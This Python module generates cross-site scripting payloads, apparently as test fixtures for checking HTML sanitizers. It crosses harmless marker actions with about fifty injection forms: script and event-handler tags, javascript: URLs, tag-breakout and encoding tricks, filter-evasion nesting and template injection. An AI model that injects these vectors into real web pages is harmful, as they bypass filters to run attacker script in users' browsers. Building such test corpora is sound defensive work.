"""Text that would be a script, if any page took it for more than text."""

from __future__ import annotations

from itertools import islice, product

MARK = "evil"  # is in each payload: in what it runs, or in the name of what it makes

_ACTS = (
    "alert('evil')",
    "window.evil=1",
    "document.body.id='evil'",
    "eval('ale'+'rt(/evil/)')",
)
_FORMS = """\
<script>{act}</script>
<ScRiPt>{act}</sCrIpT>
<script/src=data:,{act} class=evil></script>
<img src=x class=evil onerror="{act}">
<img/src='x'/class=evil/onerror={act}>
<img src=x:x class=evil onerror={act}
"><img src=x class=evil onerror={act}>
'><svg class=evil onload={act}>
`><svg/class=evil/onload={act}>
</script><script>{act}</script>
</title><svg/class=evil/onload={act}>
</textarea><img src=x class=evil onerror={act}>
</noscript><img src=x class=evil onerror={act}>
</style><img src=x class=evil onerror={act}>
--><img src=x class=evil onerror={act}><!--
]]><img src=x class=evil onerror={act}>
" autofocus onfocus="{act}" class="evil
' autofocus onfocus='{act}' class='evil
" onmouseover="{act}" style="position:fixed;inset:0" class="evil
javascript:{act}//evil
java&#9;script:{act}//evil
data:text/html,<script>{act}</script>
<a href="javascript:{act}" class=evil>evil</a>
<iframe class=evil srcdoc="<script>{act}</script>"></iframe>
<iframe class=evil src="javascript:{act}"></iframe>
<object class=evil data="javascript:{act}"></object>
<embed class=evil src="javascript:{act}">
<base class=evil href="//evil.example/?{act}">
<meta class=evil http-equiv=refresh content="0;url=javascript:{act}">
<form class=evil action="javascript:{act}"><button autofocus>evil</button></form>
<link class=evil rel=stylesheet href="data:text/css,*{{}}//{act}">
<style class=evil>*{{background:url("javascript:{act}")}}</style>
<svg class=evil><script>{act}</script></svg>
<svg class=evil><animate onbegin={act} attributeName=x dur=1s>
<math class=evil><mtext></p><img src=x onerror={act}></math>
<details class=evil open ontoggle={act}>evil</details>
<video class=evil><source onerror={act}></video>
<input class=evil autofocus onfocus={act}>
<marquee class=evil onstart={act}>evil</marquee>
<scr<script>ipt>{act}</scr</script>ipt>
<!--<img src="--><img src=x class=evil onerror={act}//">
&lt;img src=x class=evil onerror={act}&gt;
&#60;script&#62;{act}&#60;/script&#62;
%3Cscript%3E{act}%3C/script%3E
\\u003cscript\\u003e{act}\\u003c/script\\u003e
\uff1cscript\uff1e{act}\uff1c/script\uff1e
"}}]}}</script><script>{act}</script>
";{act};//evil
'-{act}-'
{{{{constructor.constructor("{act}")()}}}}
""".splitlines()


def payloads(count: int) -> list[str]:
    """So many of them, few of all kinds; all forms come before the second way to do harm."""
    made = [form.format(act=act) for act, form in product(_ACTS, _FORMS)]
    apart = max(1, len(_FORMS) // count)
    return list(islice(made, 0, count * apart, apart))
